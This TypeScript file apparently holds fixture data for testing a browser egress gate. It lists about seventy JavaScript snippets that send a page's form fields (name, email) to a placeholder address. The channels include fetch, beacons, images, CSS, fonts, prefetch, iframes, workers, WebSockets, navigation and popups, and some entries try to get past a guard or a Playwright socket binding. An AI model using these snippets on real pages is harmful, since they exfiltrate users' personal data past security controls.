/**
 * Ways for a page to send what stands in its form. Each is JavaScript run in the page, with `at` the address it
 * must send to, `ws` the same for sockets, and `name`, `mail`, `b64` what it sends.
 */
export const LEAKS: Record<string, string> = {
  "form post": `document.forms.apply.action = at; document.forms.apply.requestSubmit()`,
  "form post, multipart": `const f = document.forms.apply; f.action = at; f.enctype = "multipart/form-data"; f.submit()`,
  "form post into a new tab": `const f = document.forms.apply; f.action = at; f.target = "_blank"; f.submit()`,
  "form post into a frame": `const i = document.createElement("iframe"); i.name = "sink"; document.body.append(i);
    const f = document.forms.apply; f.action = at; f.target = "sink"; f.submit()`,
  "form get": `const f = document.forms.apply; f.action = at; f.method = "get"; f.submit()`,
  "button with formaction": `const b = document.createElement("button"); b.formAction = at; b.formMethod = "get";
    document.forms.apply.append(b); b.click()`,
  "fetch post": `fetch(at, { method: "POST", body: JSON.stringify({ name }) })`,
  "fetch post, no-cors": `fetch(at, { method: "POST", mode: "no-cors", body: name })`,
  "fetch put with a file": `const d = new FormData(); d.append("f", new Blob([name])); fetch(at, { method: "PUT", body: d })`,
  "fetch post, empty": `fetch(at, { method: "POST" })`,
  "fetch keepalive": `fetch(at, { method: "POST", keepalive: true, body: name })`,
  "fetch delete": `fetch(at + "?n=" + encodeURIComponent(name), { method: "DELETE" })`,
  "xhr post": `const x = new XMLHttpRequest(); x.open("POST", at); x.send(mail)`,
  "xhr, synchronous": `try { const x = new XMLHttpRequest(); x.open("GET", at + "?" + mail, false); x.send() } catch {}`,
  "xhr with a preflight": `const x = new XMLHttpRequest(); x.open("PUT", at); x.setRequestHeader("x-name", name); x.send(name)`,
  beacon: `navigator.sendBeacon(at, name)`,
  "fetch get": `fetch(at + "?q=" + encodeURIComponent(name))`,
  "fetch get, plus for space": `fetch(at + "?q=" + name.replaceAll(" ", "+"))`,
  "fetch get, in the path": `fetch(at + "?" + [...name].join("."))`,
  "fetch get, encoded twice": `fetch(at + "?q=" + encodeURIComponent(encodeURIComponent(mail)))`,
  "fetch get, base64": `fetch(at + "?q=" + b64)`,
  "fetch get, base64 of json": `fetch(at + "?q=" + btoa(JSON.stringify({ id: 7, mail })))`,
  "fetch get, hexadecimal": `fetch(at + "?q=" + [...mail].map((c) => c.charCodeAt(0).toString(16)).join(""))`,
  "fetch get, json escapes": `fetch(at + "?q=" + [...name].map((c) => "\\\\u" + c.charCodeAt(0).toString(16).padStart(4, "0")).join(""))`,
  "fetch get, digest": `crypto.subtle.digest("SHA-256", new TextEncoder().encode(mail)).then((d) =>
    fetch(at + "?em=" + [...new Uint8Array(d)].map((b) => b.toString(16).padStart(2, "0")).join("")))`,
  "fetch get, in a header": `fetch(at, { headers: { "x-note": mail } })`,
  image: `new Image().src = at + "?q=" + encodeURIComponent(name)`,
  "image with the referrer": `history.replaceState(null, "", "?q=" + encodeURIComponent(mail)); new Image().src = at; `,
  "image with a cookie": `document.cookie = "draft=" + encodeURIComponent(mail) + "; path=/"; new Image().src = at;`,
  "style sheet": `const l = document.createElement("link"); l.rel = "stylesheet"; l.href = at + "?" + mail; document.head.append(l)`,
  "background image": `document.body.style.background = "url(" + at + "?" + mail + ")"`,
  font: `const s = document.createElement("style"); s.textContent = "@font-face{font-family:x;src:url(" + at + "?" + mail + ")} body{font-family:x}";
    document.head.append(s)`,
  preload: `const l = document.createElement("link"); l.rel = "preload"; l.as = "image"; l.href = at + "?" + mail; document.head.append(l)`,
  prefetch: `const l = document.createElement("link"); l.rel = "prefetch"; l.href = at + "?" + mail; document.head.append(l)`,
  "speculation rules": `const s = document.createElement("script"); s.type = "speculationrules";
    s.textContent = JSON.stringify({ prefetch: [{ source: "list", urls: [at + "?" + mail], eagerness: "immediate" }], prerender: [{ source: "list", urls: [at + "?p" + mail], eagerness: "immediate" }] });
    document.head.append(s)`,
  manifest: `const l = document.createElement("link"); l.rel = "manifest"; l.href = at + "?" + mail; document.head.append(l)`,
  icon: `const l = document.createElement("link"); l.rel = "icon"; l.href = at + "?" + mail; document.head.append(l)`,
  script: `const s = document.createElement("script"); s.src = at + "?" + mail; document.head.append(s)`,
  "module import": `import(at + "?" + mail).catch(() => {})`,
  "frame address": `const i = document.createElement("iframe"); i.src = at + "?" + mail; document.body.append(i)`,
  "frame of its own text": `const i = document.createElement("iframe"); i.srcdoc = "<img src='" + at + "?" + mail + "'>"; document.body.append(i)`,
  "frame without a page": `const i = document.createElement("iframe"); document.body.append(i); i.contentWindow.fetch(at + "?" + mail)`,
  object: `const o = document.createElement("object"); o.data = at + "?" + mail; document.body.append(o)`,
  video: `const v = document.createElement("video"); v.src = at + "?" + mail; v.load(); document.body.append(v)`,
  track: `const v = document.createElement("video"); v.innerHTML = "<source src='" + at + "?" + mail + "'>"; document.body.append(v); v.load()`,
  "event source": `new EventSource(at + "?" + mail)`,
  "web socket": `new WebSocket(ws + "?" + encodeURIComponent(mail))`,
  "web socket message": `const s = new WebSocket(ws); s.onopen = () => s.send(mail)`,
  "web socket of a frame": `const i = document.createElement("iframe"); document.body.append(i);
    const s = new i.contentWindow.WebSocket(ws); s.onopen = () => s.send(mail)`,
  "open web socket": `window.line.send(mail)`,
  "open web socket, past its guard": `window.line._ws?.send(mail); new (window.line._ws?.constructor ?? WebSocket)(ws).onopen = (e) => e.target.send(mail)`,
  "open web socket, past its binding": `for (const type of ["connect", "passthrough"]) try { window.__pwWebSocketDispatch?.({ type, id: window.line._id }) } catch {};
    try { window.__pwWebSocketDispatch?.({ type: "sendToServer", id: window.line._id, data: { data: mail, isBase64: false } }) } catch {}; window.line.send(mail)`,
  "open web socket, letter by letter": `for (const letter of mail) window.line.send(letter)`,
  navigation: `location.href = at + "?" + mail`,
  "navigation, replaced": `location.replace(at + "?" + mail)`,
  "navigation by a refresh": `const m = document.createElement("meta"); m.httpEquiv = "refresh"; m.content = "0;url=" + at + "?" + mail; document.head.append(m)`,
  link: `const a = document.createElement("a"); a.href = at + "?" + mail; document.body.append(a); a.click()`,
  "ping of a link": `const a = document.createElement("a"); a.href = "#x"; a.ping = at + "?" + mail; document.body.append(a); a.click()`,
  popup: `window.open(at + "?" + mail)`,
  "popup, steered later": `const w = window.open("about:blank"); if (w) setTimeout(() => { try { w.location = at + "?" + mail } catch {} }, 20)`,
  "popup that fetches": `const w = window.open("about:blank"); if (w) w.fetch(at + "?" + mail)`,
  worker: `new Worker(URL.createObjectURL(new Blob(["fetch('" + at + "?" + mail + "', {method:'POST', body:'" + name + "'})"])))`,
  "socket of a worker": `new Worker(URL.createObjectURL(new Blob(["const s=new WebSocket('" + ws + "');s.onopen=()=>s.send('" + mail + "')"])))`,
  "worker of a worker": `new Worker(URL.createObjectURL(new Blob(["new Worker(URL.createObjectURL(new Blob([\\"fetch('" + at + "?" + mail + "')\\"])))"])))`,
  "script of a worker": `new Worker(at + "?" + mail)`,
  "shared worker": `new SharedWorker(URL.createObjectURL(new Blob(["fetch('" + at + "?" + mail + "')"])))`,
  "service worker": `navigator.serviceWorker.register(at + "?" + mail)`,
  "fetch later": `fetchLater(at + "?" + mail, { activateAfter: 0 })`,
  "policy report": `document.addEventListener("x", () => {}); new Image().src = "https://blocked.example/?" + mail + "&report"`,
  download: `const a = document.createElement("a"); a.href = at + "?" + mail; a.download = "x"; document.body.append(a); a.click()`,
};

/** A browser without a window asks for neither of these; the gate must stop them all the same. */
export const QUIET_IN_CONTROL = new Set(["manifest", "icon"]);
